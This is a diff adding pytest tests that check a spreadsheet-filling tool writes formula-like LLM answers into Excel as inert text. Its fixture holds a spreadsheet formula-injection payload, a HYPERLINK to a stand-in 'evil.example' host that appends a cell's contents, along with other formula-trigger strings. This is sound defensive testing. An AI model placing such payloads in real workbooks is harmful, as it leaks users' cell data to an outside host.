@@ -343,3 +343,69 @@ def test_a_stopped_run_picks_its_job_up_again(live_djllm, token, prices, upstrea
     assert column(resumed, "Sheet1", 1) == [f"ANSWER[row {i}]" for i in range(1, 7)]
     assert [r["method"] for r in resumed["requests"]] == ["GET", "GET"]  # no new job: status, then results
     assert UsageRecord.objects.filter(endpoint="job").count() == 6  # nothing ran twice
+
+
+# ---- Nothing written is ever run by Excel ------------------------------------------------------------------------
+
+HOSTILE_ANSWERS = {
+    "link": '=HYPERLINK("http://evil.example/?"&C2,"Details")',
+    "list": "- first point\n- second point",
+    "plus": "+A1*2",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "quote": "'quoted' and kept",
+    "plain": "just text",
+}
+
+
+@pytest.fixture
+def hostile_upstream(fake_upstream):
+    def reply(body: dict) -> str:
+        prompt = body["messages"][-1]["content"]
+        return next(answer for key, answer in HOSTILE_ANSWERS.items() if key in prompt)
+
+    fake_upstream.configure(reply=reply)
+    return fake_upstream
+
+
+@pytest.mark.parametrize("path", ["batch", "job"])
+def test_answers_that_look_like_formulas_are_written_as_text(
+    live_djllm, token, prices, hostile_upstream, run_script, job_worker, path
+):
+    keys = list(HOSTILE_ANSWERS)
+    rows = [[f"row about {key}", ""] for key in keys]
+    rows.insert(3, ["", "=kept as text"])  # an empty input row: its output cell is read and written back as it was
+    settings = {"chunk_size": 100} if path == "batch" else {"job_threshold": 2}
+    result = run_script(
+        {
+            "sheets": {"Sheet1": rows, "djllm": config_sheet(live_djllm.url, token[1], **settings)},
+            "selection": f"Sheet1!A1:A{len(rows)}",
+        }
+    )
+    assert result["ok"], result["error"]
+    expected = [HOSTILE_ANSWERS[key] for key in keys]
+    expected.insert(3, "=kept as text")
+    # What the cells hold is the answers' text exactly, and Excel was never handed a formula to run.
+    assert column(result, "Sheet1", 1) == expected
+    assert result["workbook"]["formulas"] == []
+    if path == "job":
+        assert ["job_id", ""] in result["workbook"]["sheets"]["djllm"]
+
+
+def test_the_fake_workbook_takes_values_as_excel_does(tmp_path):
+    """The harness itself: unescaped text that starts like a formula is entered as one, so the test above can fail."""
+    script = tmp_path / "probe.js"
+    script.write_text(
+        "async function main(workbook) {\n"
+        '  workbook.getWorksheet("S").getRange("A1:A4").setValues([["=1+1"], ["\'=1+1"], ["-3"], ["- item"]]);\n'
+        "}\n"
+    )
+    book = tmp_path / "book.json"
+    book.write_text(json.dumps({"sheets": {"S": [["x"]]}}))
+    done = node(EXCEL / "test" / "run-office-script.js", script, book)
+    result = json.loads(done.stdout)
+    assert result["workbook"]["sheets"]["S"] == [["=1+1"], ["=1+1"], ["-3"], ["- item"]]
+    assert result["workbook"]["formulas"] == [
+        {"cell": "S!A1", "formula": "=1+1"},
+        {"cell": "S!A4", "formula": "- item"},
+    ]
